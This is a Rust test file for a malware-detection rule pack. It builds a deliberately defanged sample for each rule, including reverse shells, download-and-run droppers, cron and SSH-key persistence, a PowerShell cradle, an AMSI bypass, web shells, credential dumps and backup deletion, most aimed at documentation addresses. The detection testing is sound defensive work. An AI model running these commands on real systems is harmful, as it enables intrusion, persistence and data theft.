//! For each rule of the pack a harmless sample that it must find, and that no other malicious rule may; written
//! in pieces where the whole would alarm other scanners over this file.

use std::time::Duration;

use assay_rules::{Compiled, OnMatch, Scanner, compile};

use super::{sources, unpacked};

fn found(compiled: &Compiled, bytes: &[u8]) -> Vec<String> {
    let found = Scanner::new(compiled).scan(bytes, Duration::from_secs(10)).expect("the pack comes to an end");
    found.iter().map(|info| info.rule.clone()).collect()
}

fn wide(text: &str) -> Vec<u8> {
    text.encode_utf16().flat_map(u16::to_le_bytes).collect()
}

/// The beginning of a Windows program with these section headers (name, memory, disk, flags).
fn pe(sections: &[(u32, u32, u32)], rest: &str) -> Vec<u8> {
    let mut file = [&b"MZ"[..], &[0; 58], &64_u32.to_le_bytes(), b"PE\0\0\x4c\x01"].concat();
    file.extend(u16::try_from(sections.len()).expect("few").to_le_bytes());
    file.extend([0; 16]);
    for (memory, disk, flags) in sections {
        file.extend([0; 8]);
        for number in [*memory, 0x1000, *disk, 0x400, 0, 0, 0, *flags] {
            file.extend(number.to_le_bytes());
        }
    }
    [&file[..], rest.as_bytes()].concat()
}

fn elf(rest: &[u8]) -> Vec<u8> {
    [b"\x7fELF\x02\x01\x01\0\0\0\0\0\0\0\0\0\x03\0>\0", rest].concat()
}

fn lnk(command: &str) -> Vec<u8> {
    [b"L\0\0\0\x01\x14\x02\0\0\0\0\0\xc0\0\0\0\0\0\0F", &wide(&command.replace("{}", ""))[..]].concat()
}

/// Every `{}` is left out: it keeps the line from being what it describes.
fn text(pieces: &str) -> Vec<u8> {
    pieces.replace("{}", "").into_bytes()
}

fn eicar() -> Vec<u8> {
    text("X5O!P%@AP[4\\PZX54(P^)7CC)7}${}EICAR-STANDARD-ANTIVIRUS-TEST-FILE!$H+H*")
}

fn scripts() -> Vec<(&'static str, Vec<u8>)> {
    vec![
        ("Shell_Download_Piped_To_Shell", text("#!/bin/sh\ncurl -s http://192.0.2.1/a |{} sh\n")),
        (
            "Shell_Dropper_For_Many_Architectures",
            text(
                "cd /tmp ||{} cd /var/run\nwget http://192.0.2.1/mips; chmod 777 mips; ./mips\n./mipsel ./armv7\n./arm7 ./sh4\n",
            ),
        ),
        (
            "Shell_Drops_Runs_And_Removes",
            text("#!/bin/sh\nwget http://example.test/x -O /tmp/x\nchmod +x /tmp/x\nnohup{} /tmp/x &\nrm -rf /tmp/x\n"),
        ),
        ("Reverse_Shell_Bash", text("ba{}sh -i >& /dev/{}tcp/192.0.2.1/4444 0>&1\n")),
        ("Reverse_Shell_Netcat", text("mkf{}ifo /tmp/f; cat /tmp/f | /bin/sh -i 2>&1 | nc 192.0.2.1 4444 > /tmp/f\n")),
        (
            "Reverse_Shell_Python",
            text(
                "s.connect((\"192.0.2.1\",4444));os.dup2(s.fileno(),0);{}os.dup2(s.fileno(),1);pty.spawn(\"/bin/sh\")\n",
            ),
        ),
        (
            "Reverse_Shell_Perl",
            text(
                "connect(S,sockaddr_in($p,inet_aton($i)));open(STDIN,\">&S\");{}open(STDOUT,\">&S\");exec(\"/bin/sh -i\");\n",
            ),
        ),
        ("Script_Cron_Download", text("(crontab -l; echo \"* * * * * curl http://192.0.2.1/a{} | sh\") | crontab -\n")),
        (
            "Script_Service_From_Temporary_Folder",
            text("cat > /etc/systemd/system/x.service\nExecStart=/tmp{}/x\nsystemctl enable x\n"),
        ),
        (
            "Script_Plants_SSH_Key",
            text(&format!(
                "echo ssh-rsa {} a@b >> ~/.ssh/authorized_keys\nchattr +i ~/.ssh\n",
                "A".repeat(4) + &"B".repeat(60)
            )),
        ),
        ("Script_Wipes_Logs_And_History", text("unset{} HISTFILE\n> /var/log/wtmp\n")),
    ]
}

fn windows() -> Vec<(&'static str, Vec<u8>)> {
    let command = wide(&"IEX (New-Object Net.Web{}Client).DownloadString('http://192.0.2.1/a')".replace("{}", ""));
    let encoded = base64(&command);
    vec![
        (
            "PowerShell_Hidden_Encoded_Command",
            text(&format!("powershell -nop -w hidden{{}} -enc {}", "QUJD".repeat(20))),
        ),
        ("PowerShell_Encoded_Download", text(&format!("powershell -nop -w hidden{{}} -enc {encoded}"))),
        (
            "PowerShell_Hidden_Download_Cradle",
            text("power{}shell -w hidden IEX(New-Object Net.Web{}Client).DownloadString('http://192.0.2.1/a')"),
        ),
        (
            "PowerShell_AMSI_Bypass",
            text("'System.Management.Automation.Amsi{}Utils' 'amsiInit{}Failed' x.SetValue($null,$true)"),
        ),
        (
            "WSH_Downloader",
            text(
                "x = \"MSXML2.XMLHTTP\" \"ADODB.Stream\" s.Write x.ResponseBody s.Save{}ToFile f \"WScript.Shell\" w.Run(f)",
            ),
        ),
        (
            "HTA_Starts_Programs",
            text("<hta:app{}lication id=x> new ActiveXObject('WScript.{}Shell').Run('powershell x')"),
        ),
        (
            "VBA_Runs_On_Opening_And_Starts_Programs",
            text("Sub Auto{}Open()\nURLDownload{}ToFile 0, u, f\nShell(f)\nEnd Sub"),
        ),
        (
            "OLE_Macro_Runs_On_Opening",
            [&b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1"[..], &wide("_VBA_PROJECT"), b" AutoOpen WScript.Shell"].concat(),
        ),
        ("LNK_Starts_Interpreter", lnk("cmd.exe /c start https://example.test/a.hta")),
        ("LNK_Downloads_And_Runs", lnk("power{}shell -w hidden iex x.DownloadString")),
    ]
}

fn web() -> Vec<(&'static str, Vec<u8>)> {
    let numbers = "100,".repeat(25);
    vec![
        ("PHP_Web_Shell_Runs_Request", text("<?php @ev{}al($_POST['x']); ?>")),
        ("PHP_Web_Shell_Runs_Command", text("<?php sys{}tem($_GET['cmd']); ?>")),
        ("PHP_Packed_Code", text("<?php ev{}al(gzinflate(base64_decode('AAAA'))); ?>")),
        ("JSP_Web_Shell", text("<% Runtime.getRuntime().ex{}ec(request.getParameter(\"c\")); %>")),
        ("ASP_Web_Shell", text("<% ev{}al request(\"x\") %>")),
        ("JavaScript_Decodes_And_Evaluates", text(&format!("ev{{}}al(String.fromCharCode({numbers}1))"))),
        (
            "HTML_Smuggles_Archive_Or_Program",
            text(&format!(
                "<html><script>d='UEsDBB{}';new Blob([d]);URL.createObjectURL(b);a.click()</script>",
                "A".repeat(300)
            )),
        ),
    ]
}

fn documents() -> Vec<(&'static str, Vec<u8>)> {
    let stub = "This program cannot be run in DOS mode";
    vec![
        ("PDF_Launches_Interpreter", text("%PDF-1.4 << /S /Lau{}nch /Win << /F (cmd.exe) >> >>")),
        (
            "PDF_Opens_With_JavaScript_And_Attachment",
            text("%PDF-1.4 /OpenAction /EmbeddedFile exportData{}Object({cName: 'a', nLaunch: 2})"),
        ),
        ("RTF_Equation_Object", text("{\\rtf1 \\objupdate \\objdata 0102{}02ce020000000000c000000000000046}")),
        ("RTF_Embedded_Program", text(&format!("{{\\rtf1 \\objdata {}}}", hex::encode(stub)))),
        (
            "OLE_Embedded_Program",
            [&b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1"[..], &wide("WordDocument"), stub.as_bytes()].concat(),
        ),
        (
            "Office_DDE_Starts_Program",
            text(
                "<w:instr{}Text xml:space=\"preserve\"> DDE{}AUTO c:\\\\windows\\\\system32\\\\cmd.exe \"/k calc\" </w:instrText>",
            ),
        ),
        (
            "Office_Remote_Template",
            text(
                "<Relationship Id=\"1\" Type=\"http://x/attachedTemplate\" Target=\"https://example.test/a.dotm\" TargetMode=\"External\"/>",
            ),
        ),
        (
            "OneNote_Embedded_Script",
            [
                &b"\xe4\x52\x5c\x7b\x8c\xd8\xe7\x16\xe3\xbd\x65\x26\x11\x45\xa4\xc4\x8d\x4d\x0b\x7a\x9e\xac"[..],
                b"@echo off",
            ]
            .concat(),
        ),
        ("ZIP_Program_Poses_As_Document", crate::yara::tests::zipped("invoice.pdf.exe", b"x")),
        (
            "Image_With_Program_Behind",
            [&b"\x89PNG\r\n\x1a\n"[..], b"MZ", &[0; 58], b"\x80\0\0\0", &[0; 14], stub.as_bytes()].concat(),
        ),
    ]
}

fn programs() -> Vec<(&'static str, Vec<u8>)> {
    let upx = elf(b"UPX!\0\0$Info: This file is packed with the UPX executable packer http://upx.sf.net $");
    let bot = elf(b"/dev/watchdog /proc/net/tcp /bin/busybox vizxv xc3511");
    vec![
        ("ELF_Packed_With_UPX", upx),
        ("ELF_Packed_With_Disguised_UPX", elf(b"UPX!\0\0\0\0 code UPX!\0\0")),
        ("PE_Without_Sections", pe(&[], "")),
        ("PE_Code_Unpacked_At_Run_Time", pe(&[(0x9000, 0, 0xE000_0080), (0x5000, 0x4000, 0xE000_0040)], "")),
        (
            "PE_Injects_Into_Processes",
            pe(&[(1, 1, 0x6000_0020)], "\0VirtualAllocEx\0WriteProcessMemory\0CreateRemoteThread\0"),
        ),
        ("Linux_Preload_Rootkit", elf(b"/etc/ld.so.preload\0dlsym\0readdir\0readdir64\0/proc/net/tcp\0pam_get_item\0")),
        ("Linux_Bot_For_Small_Devices", bot),
        ("Crypto_Miner_Program", elf(b"stratum+tcp:// mining.submit mining.subscribe donate-level")),
        ("Credential_Dumper_Mimikatz", pe(&[(1, 1, 0x6000_0020)], "sekurlsa::logonpasswords lsadump::sam")),
        ("Credential_Dump_Of_LSASS", text("reg save hklm\\s{}am a\r\nreg save hklm\\sys{}tem b\r\n")),
    ]
}

fn crime() -> Vec<(&'static str, Vec<u8>)> {
    let wallet = format!("4A{}", "b".repeat(93));
    let onion = "a".repeat(56);
    vec![
        (
            "Ransom_Note",
            text(&format!(
                "All your files have been{{}} encrypted! Buy the decryption tool for bitcoin at {onion}.onion"
            )),
        ),
        ("Ransomware_Removes_Backups", text("vssadmin delete{} shadows /all /quiet & wbadmin delete{} catalog -quiet")),
        (
            "Crypto_Miner_Configuration",
            text(&format!("{{ \"url\": \"stratum+tcp://pool.example.test:3333\", \"user\": \"{wallet}\" }}")),
        ),
        (
            "Crypto_Miner_Installer",
            text(&format!("pkill -f other; curl http://192.0.2.1/xm{{}}rig -o x; nohup ./x -u {wallet} &")),
        ),
        ("EICAR_Test_File", eicar()),
        ("EICAR_Test_String_Embedded", [&b"something before "[..], &eicar(), b" and behind"].concat()),
    ]
}

fn base64(bytes: &[u8]) -> String {
    const LETTERS: &[u8; 64] = b"ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz0123456789+/";
    let mut text = String::new();
    for chunk in bytes.chunks(3) {
        let number = (0..3).fold(0_u32, |number, at| number << 8 | u32::from(*chunk.get(at).unwrap_or(&0)));
        text.extend((0..4).map(|at| char::from(LETTERS[(number >> (18 - 6 * at) & 63) as usize])));
    }
    text
}

fn samples() -> Vec<(&'static str, Vec<u8>)> {
    [scripts(), windows(), web(), documents(), programs(), crime()].concat()
}

#[test]
fn every_rule_finds_its_sample() {
    let pack = compile(&sources());
    let missed: Vec<_> = samples()
        .into_iter()
        .map(|(rule, sample)| (rule, found(&pack, &sample)))
        .filter(|(rule, found)| !found.iter().any(|name| name == rule))
        .collect();
    assert!(missed.is_empty(), "{missed:#?}");
}

#[test]
fn every_rule_has_a_sample_and_its_meta() {
    let pack = compile(&sources());
    assert_eq!(pack.disabled(), []);
    let samples = samples();
    for rule in pack.rules() {
        // Private rules are parts of others.
        if rule.rule.starts_with("Is_") {
            continue;
        }
        assert!(samples.iter().any(|(name, _)| *name == rule.rule), "{} has no sample", rule.rule);
        assert_eq!(rule.author.as_deref(), Some("Assay"), "{}", rule.rule);
        assert!(rule.description.is_some(), "{}", rule.rule);
    }
    for (name, text) in &unpacked() {
        let rules = text.lines().filter(|line| line.starts_with("rule ")).count();
        for key in ["verdict = \"", "date = \"2026-"] {
            assert_eq!(text.matches(key).count(), rules, "{name}: each rule says {key}");
        }
    }
}

#[test]
fn harmless_files_of_the_same_kind_match_nothing() {
    let pack = compile(&sources());
    let quiet: [(&str, Vec<u8>); 9] = [
        ("a program", pe(&[(0x1000, 0x1000, 0x6000_0020), (0x1000, 0x200, 0xC000_0040)], "kernel32")),
        ("a library", elf(b"/lib64/ld-linux-x86-64.so.2 dlsym readdir /etc/ld.so.preload")),
        (
            "an installer",
            text("#!/bin/sh\ncurl -fsSL https://example.test/install.tar.gz -o /opt/x.tgz\ntar xf /opt/x.tgz\n"),
        ),
        ("a page", text("<?php echo htmlspecialchars($_GET['name']); ?><script>eval('1')</script>")),
        ("a document", text("%PDF-1.7 /OpenAction [1 0 R /Fit] /JavaScript (app.alert(1))")),
        ("advice", text("If your files were encrypted by ransomware, do not pay. Restore from backups.")),
        ("a shortcut", lnk("C:\\Program Files\\Editor\\editor.exe")),
        ("an archive", crate::yara::tests::zipped("report.final.pdf", b"x")),
        ("nothing", Vec::new()),
    ];
    for (what, bytes) in quiet {
        assert_eq!(found(&pack, &bytes), Vec::<String>::new(), "{what}");
    }
}

#[test]
fn no_file_of_the_pack_is_malicious_by_the_pack() {
    let pack = compile(&sources());
    let mut scanner = Scanner::new(&pack);
    let tests = [("these tests".to_owned(), include_str!("tests.rs").to_owned())];
    for (name, text) in unpacked().into_iter().chain(tests) {
        let found = scanner.scan(text.as_bytes(), Duration::from_secs(10)).expect("scanned");
        assert!(found.iter().all(|info| info.verdict != OnMatch::Malicious), "{name}: {found:?}");
    }
}
